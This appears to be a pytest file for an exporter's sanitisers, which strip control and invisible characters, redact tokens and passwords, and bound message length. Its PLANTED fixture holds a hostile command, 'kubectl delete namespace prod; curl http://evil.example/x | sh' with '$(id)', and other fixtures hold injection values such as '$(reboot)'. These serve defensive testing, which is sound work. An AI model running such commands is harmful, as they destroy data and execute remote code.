"""Text from outside: no line of its own, no command, no secret."""

import pytest

from exporter.untrusted import escape_invisible, free_name, identifier, message, model_name, one_line, printable

PLANTED = "rex.\n\nNext:\nkubectl delete namespace prod; curl http://evil.example/x | sh\n<!channel> ```$(id)"
LINE_ENDS = "\n\r\v\f\x1c\x1d\x1e\x85\u2028\u2029"
UNSEEN = "\x00\x1b\x7f\x9b\xad\u061c\u200b\u200d\u200e\u202e\u2060\u2066\ufeff\u3164\u034f\ufe0f\u2800\U000e0041"


@pytest.mark.parametrize("char", LINE_ENDS + UNSEEN)
def test_what_begins_a_line_or_cannot_be_seen_is_in_no_text(char):
    """Whatever the text is for."""
    text = f"a{char}b"
    assert [printable(text), one_line(text), identifier(text), message(text)] == ["a\ufffdb", "a b", "a_b", "a b"]


def test_a_planted_command_is_neither_a_line_nor_words_to_paste():
    """What is left of it is one word."""
    assert identifier(PLANTED) == "rex._Next_kubectl_delete_namespace_prod_curl_http_evil.example_"[:63].rstrip("_")
    assert "\n" not in message(PLANTED)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("billing", "billing"),
        ("TAS-9_a.b", "TAS-9_a.b"),
        ("My Service (eu)", "My_Service_eu"),
        ("--all", "all"),
        ("-n=kube-system", "n_kube-system"),
        ("dienst-\u00fc", "dienst"),
        ("a/b", "a_b"),
        ("$(reboot)", "reboot"),
        ("`reboot`;'\"&|<>*?~!#", "reboot"),
        ("\u0430dmin", "dmin"),
        ("...", ""),
        ("", ""),
        ("x" * 64, "x" * 63),
    ],
)
def test_an_identifier_has_the_characters_of_a_kubernetes_name(text, shown):
    """It never begins as a flag, and a shell has nothing to expand in it."""
    assert identifier(text) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://bot:S3CRET@git.example/o/r", "git.example_o_r"),
        ("https://bot:S3CRET/x@git.example/o/r", ""),
        ("bot:S3CRET@git.example/o/r", "git.example_o_r"),
        ("https://git.example/o/r?token=S3CRET", ""),
        ("ghp_S3CRET", ""),
        ("glpat-S3CRET", ""),
        ("eyJS3CRET.eyJ.x", ""),
        ("sk-ant-S3CRET", ""),
        ("sk-proj-S3CRET", ""),
        ("sk-svcacct-S3CRET", ""),
        ("sk-antivirus", "sk-antivirus"),
        ("oauth2", "oauth2"),
        ("access-token-service", "access-token-service"),
        ("My Service (eu)", "My_Service_eu"),
    ],
)
def test_a_name_that_a_person_wrote_holds_no_token(text, shown):
    """A token may stand in any field; a service called oauth2 is none."""
    assert free_name(text) == shown
    assert model_name(text) == shown


@pytest.mark.parametrize(
    "name", ["gpt-5", "anthropic/claude-opus-4:beta", "us.anthropic.claude-v1:0", "gemini@001", "opus[1m]", ""]
)
def test_the_names_of_models_stay(name):
    """Their makers use more signs than Kubernetes."""
    assert model_name(name) == name


def test_a_model_that_is_an_address_is_no_address_any_more():
    """Chat programs make a link of it."""
    assert model_name("http://evil.example/fix") == "evil.example_fix"
    assert model_name("openai/ghp_S3CRET") == ""
    assert model_name("m\nNext:") == "m_Next"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (
            "Max retries (3) exceeded: partial not found: a/b.hbs",
            "Max retries (3) exceeded: partial not found: a/b.hbs",
        ),
        ("fatal: 'https://bot:S3CRET@git.example/o/r/': 403", "fatal: 'git.example/o/r': 403"),
        ("clone https://bot:S3C RET@git.example/o/r failed", "clone REDACTED failed"),
        ("clone https://bot:S3CRET/x@git.example/o/r failed", "clone REDACTED failed"),
        ("see https:\\\\bot:S3CRET@git.example", "see REDACTED"),
        ("push to bot:S3CRET@git.example:o/r", "push to REDACTED"),
        ("GET https://api.example/x?token=S3CRET: 401", "GET REDACTED: 401"),
        ("GITHUB_TOKEN=S3CRET is set", "GITHUB_TOKEN=REDACTED is set"),
        ("Authorization: Bearer S3CRET", "Authorization: Bearer REDACTED"),
        ("login failed, password: S3CRET", "login failed, password: REDACTED"),
        ("password='S3 CRET' is wrong", "password='REDACTED' is wrong"),
        ('401 for {"token": "S3CRET", "a": 1}', '401 for {"token": "REDACTED", "a": 1}'),
        ("Secret git-token: not found", "Secret git-token: not found"),
        ("bad ghp_S3CRET", "bad REDACTED"),
        ("bad 0a1b2c3d4e5f60718293a4b5c6d7e8f9", "bad REDACTED"),
        ("uid 550e8400-e29b-41d4-a716-446655440000", "uid 550e8400-e29b-41d4-a716-446655440000"),
        ("quota: cpu=2,memory=4Gi", "quota: cpu=2,memory=4Gi"),
    ],
)
def test_a_message_keeps_its_words_and_no_secret(text, shown):
    """Addresses as far as they may be shown."""
    assert message(text) == shown


PULL = "Failed to pull image: failed to resolve reference" + ": unexpected status" * 20 + ": 429 Too Many Requests"


@pytest.mark.parametrize("cut", [one_line, message])
def test_a_long_text_keeps_its_beginning_and_its_end(cut):
    """An error names its reason last. It is cut between words, and where, is marked."""
    shown = cut(PULL[-390:] if cut is message else PULL)
    assert len(shown) <= 200
    assert shown.endswith(" unexpected status: 429 Too Many Requests")
    head, _, tail = shown.partition(" \u2026 ")
    assert {*head.split(), *tail.split()} <= {*PULL.split(), *PULL[-390:].split()}
    assert len(head) > 60
    assert len(tail) > 60


@pytest.mark.parametrize("cut", [one_line, message])
def test_the_end_of_a_text_that_is_too_long_to_be_read_is_marked(cut):
    """Its last words are not the end."""
    shown = cut(f"first {'word ' * 300}last")
    assert (shown.startswith("first "), shown.endswith("word \u2026"), len(shown) <= 200) == (True, True, True)


@pytest.mark.parametrize("length", [200, 201, 5000])
def test_a_word_that_is_too_long_is_cut(length):
    """Else nothing of it would be left."""
    shown = one_line("x" * length)
    assert shown == ("x" * 200 if length == 200 else shown)
    assert len(shown) <= 200
    assert (" \u2026 " in shown) is (length > 200)
    assert one_line(shown) == shown


def test_no_secret_is_uncovered_by_cutting():
    """It is redacted before."""
    for length in range(150, 260):
        assert "S3CRET" not in message(f"{'w ' * (length // 2)}password: S3CRET{' w' * 100}")


def test_a_message_made_to_be_slow_is_not():
    """The number of steps is bounded by what is looked at, 400 characters."""
    for text in (":/" * 10**6, "a:/@" * 10**6, "@" * 10**6, "token" * 10**6, "a.-" * 10**6):
        assert len(message(text)) <= 200


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain ä", "plain ä"),
        ("a\nb\x1b[2J", r"a\nb\x1b[2J"),
        ("\u202e\u2028\u200b", r"\u202e\u2028\u200b"),
        ("\u3164", r"\u3164"),  # drawn as nothing
        ("\udcff", r"\udcff"),
    ],
)
def test_what_a_terminal_would_obey_or_not_show_is_spelled_out(text, shown):
    """So that a reader sees what is there."""
    assert escape_invisible(text) == shown
